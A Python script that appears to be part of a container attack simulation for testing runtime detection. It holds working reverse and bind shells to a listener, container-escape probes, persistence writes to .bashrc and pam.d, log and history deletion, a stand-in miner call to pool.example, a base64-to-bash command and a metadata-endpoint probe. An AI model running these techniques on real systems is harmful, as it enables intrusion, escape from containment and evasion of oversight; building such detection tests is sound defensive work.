"""More of what happens inside a simulation's container: `tricks.py NAME`, as inside.py, and under the same rules."""

import contextlib
import ctypes
import os
import pty
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

PORT = 4444
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
O_WRONLY, AT_FDCWD = 1, -100
BPF, OPEN_BY_HANDLE_AT = 321, 304
NOTE = "# written by a harmless simulation\n"
SETTLE = 2.0
"""Seconds before the attack, so that the node knows the container by name."""

libc = ctypes.CDLL(None, use_errno=True)


def call(name: str, *arguments: object) -> int:
    """A function of the C library; raises OSError when it fails."""
    result = int(getattr(libc, name)(*arguments))
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def dial() -> socket.socket:
    """A connection to the listener."""
    return socket.create_connection((os.environ["LISTENER"], PORT), timeout=10)


def append(path: str) -> None:
    """A comment at the end of a file."""
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    with Path(path).open("a") as file:
        file.write(NOTE)


def copy_of_true(path: str) -> str:
    """A harmless program under another name."""
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    return str(shutil.copy(shutil.which("true") or "/bin/true", path))


def reverse_shell_terminal() -> None:
    """What pty.spawn does, with the network at the other side."""
    with dial() as peer:
        pid, master = pty.fork()
        if pid == 0:
            os.execvp("bash", ["bash", "-i"])
        sender = threading.Thread(target=_carry, args=(master, peer.fileno()), daemon=True)
        sender.start()
        peer.settimeout(None)
        os.write(master, b"sleep 3\n")
        _carry(peer.fileno(), master)
        sender.join(8)
        os.close(master)
        os.waitpid(pid, 0)


def _carry(source: int, target: int) -> None:
    with contextlib.suppress(OSError):
        while part := os.read(source, 4096):
            os.write(target, part)


def reverse_shell_memory() -> None:
    memory = os.memfd_create("x", 0)
    os.write(memory, Path(shutil.which("bash") or "/bin/bash").read_bytes())
    with dial() as peer:
        fd = peer.fileno()
        program = f"/proc/self/fd/{memory}"
        shell = subprocess.Popen(["sh", "-i"], executable=program, pass_fds=[memory], stdin=fd, stdout=fd, stderr=fd)
        shell.wait(15)


def bind_shell() -> None:
    own = socket.gethostbyname(socket.gethostname())
    with socket.create_server(("0.0.0.0", PORT)) as server:
        with socket.create_connection((own, PORT), timeout=5) as caller:
            served, _ = server.accept()
            with served:
                caller.sendall(b"exit\n")
                fd = served.fileno()
                subprocess.run(["sh", "-i"], stdin=fd, stdout=fd, stderr=fd, timeout=10, check=False)


def user_namespace() -> None:
    Path("/mnt/empty").mkdir(parents=True, exist_ok=True)
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    with contextlib.suppress(OSError):
        call("mount", b"none", b"/mnt/empty", b"tmpfs", 0, None)


def kernel_setting() -> None:
    os.close(os.open("/proc/sys/kernel/core_pattern", O_WRONLY))


def disk_device() -> None:
    os.mknod("/opt/disk", 0o060600, os.makedev(7, 200))
    Path("/opt/disk").unlink()


def file_handle() -> None:
    """struct file_handle: its size, its type, its bytes."""
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 8 + 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, b"/etc/hostname", handle, ctypes.byref(mount), 0)
    folder = os.open("/etc/hostname", os.O_RDONLY)
    os.close(call("syscall", OPEN_BY_HANDLE_AT, folder, handle, os.O_RDONLY))


def other_environment() -> None:
    Path(f"/proc/{os.environ['HOST_PID']}/environ").read_bytes()


def other_files() -> None:
    Path(f"/proc/{os.environ['HOST_PID']}/root/etc/hostname").read_bytes()


def refused_call() -> None:
    with contextlib.suppress(OSError):
        call("syscall", BPF, 0, 0, 0)


def packet_socket() -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


def set_user_id() -> None:
    copy = Path(copy_of_true("/opt/helper"))
    copy.chmod(0o4755)
    copy.unlink()


def second_name() -> None:
    os.link("/etc/passwd", "/opt/names")
    Path("/opt/names").unlink()


def removed(path: str) -> None:
    append(path)
    Path(path).unlink()


def drop_script() -> None:
    Path("/opt/job.sh").write_text("id\n")
    subprocess.run(["bash", "/opt/job.sh"], timeout=5, check=False)


def run(*command: str) -> None:
    subprocess.run(list(command), timeout=10, check=False)


def web_shell() -> None:
    copy = shutil.copy(shutil.which("bash") or "/bin/bash", "/opt/nginx")
    run(str(copy), "-c", "id; true")


def port_sweep() -> None:
    for port in range(9000, 9040):
        with socket.socket() as knock, contextlib.suppress(OSError):
            knock.settimeout(0.2)
            knock.connect((os.environ["LISTENER"], port))


def metadata() -> None:
    with socket.socket() as knock, contextlib.suppress(OSError):
        knock.settimeout(0.5)
        knock.connect(("169.254.169.254", 80))


STEPS: dict[str, Callable[[], None]] = {
    "reverse-shell-pty": reverse_shell_terminal,
    "reverse-shell-memory": reverse_shell_memory,
    "bind-shell": bind_shell,
    "user-namespace": user_namespace,
    "kernel-setting": kernel_setting,
    "disk-device": disk_device,
    "file-handle": file_handle,
    "other-environment": other_environment,
    "other-files": other_files,
    "refused-call": refused_call,
    "packet-socket": packet_socket,
    "login-module": lambda: append("/etc/pam.d/simulation"),
    "startup": lambda: append("/root/.bashrc"),
    "system-program": lambda: Path(copy_of_true("/usr/bin/kworker-helper")).unlink(),
    "set-user-id": set_user_id,
    "second-name": second_name,
    "logs": lambda: removed("/var/log/auth.log"),
    "history": lambda: removed("/root/.bash_history"),
    "drop-script": drop_script,
    "miner": lambda: run("true", "-o", "stratum+tcp://pool.example:3333"),
    "tunnel": lambda: run(copy_of_true("/opt/frpc"), "-c", "frpc.ini"),
    "encoded-command": lambda: run("bash", "-c", "echo aWQK | base64 -d | bash"),
    "web-shell": web_shell,
    "port-sweep": port_sweep,
    "metadata": metadata,
}


def main() -> None:
    time.sleep(SETTLE)
    STEPS[sys.argv[1]]()
    time.sleep(0.5)


if __name__ == "__main__":
    main()
